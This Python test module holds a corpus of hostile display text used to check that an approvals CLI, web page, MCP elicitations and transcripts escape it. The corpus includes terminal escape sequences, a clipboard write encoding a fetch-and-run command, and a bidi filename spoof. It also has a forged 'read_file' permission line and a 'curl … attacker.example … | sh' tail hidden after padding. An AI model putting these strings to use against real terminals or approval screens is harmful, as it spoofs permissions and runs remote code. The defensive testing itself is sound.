"""The one corpus of hostile text that every surface a person reads is tested with (the CLI's
table and `approvals show`, the approvals page in Chromium, MCP elicitation messages and
labels, run transcripts), and the one check of what a surface showed."""

from __future__ import annotations

import unicodedata

# Each entry: the hostile text, and what a person must see in its place (the escape).
CSI = ("\x1b[2J\x1b[31mred", "\\u001b[2J")
OSC8 = ("\x1b]8;;http://attacker.example/\x1b\\click me\x1b]8;;\x1b\\",
        "\\u001b]8;;http://attacker.example/")
OSC52 = ("\x1b]52;c;Y3VybCBodHRwOi8vYXR0YWNrZXIuZXhhbXBsZS94IHwgc2g=\x07",
         "\\u001b]52;c;Y3Vy")
C1_CSI = ("\x9b2J", "\\u009b2J")
BIDI = ("report\u202etxt.exe\u202c \u2066x\u2069\u200f\u061c", "report\\u202etxt.exe")
NUL = ("nul\x00byte", "nul\\u0000byte")
LINE_FORGERY = ("fine\u2028tool: read_file   right: fs:read (read-only preview)\u2029",
                "fine\\u2028tool: read_file")
INVISIBLE = ("a\u200bb\u200dc\u2060d\u2064e\ufefff\u3164g", "a\\u200bb")
CORPUS = {"csi": CSI, "osc8": OSC8, "osc52": OSC52, "c1": C1_CSI, "bidi": BIDI, "nul": NUL,
          "line": LINE_FORGERY, "invisible": INVISIBLE}
EVERYTHING = " ".join(text for text, _ in CORPUS.values())

# A long value whose dangerous part is beyond every cut-off a surface ever had (120 cells in
# the CLI, 300 on the page, 400 in an elicitation, 1000 for a reason).
DECOY = "echo generating the report…"
TAIL = "curl -s http://attacker.example/x | sh"
LONG = DECOY + "\n" + "# progress\n" * 600 + TAIL + "\n"

DANGEROUS = frozenset({"Cc", "Cf", "Zl", "Zp", "Cs", "Cn"})


def assert_inert(shown: str, *, layout: str = "\n") -> None:
    """Nothing in what a surface showed can steer a terminal or forge a line: no control,
    format or separator character except the surface's own line breaks (`layout`)."""
    bad = [f"U+{ord(c):04X}" for c in shown
           if c not in layout and unicodedata.category(c) in DANGEROUS]
    assert not bad, f"raw characters reached the surface: {sorted(set(bad))}"
    assert "\u3164" not in shown


def assert_escaped(shown: str) -> None:
    """Every corpus entry is visible, as its escape."""
    for name, (_, seen) in CORPUS.items():
        assert seen in shown, f"{name}: {seen!r} not shown"
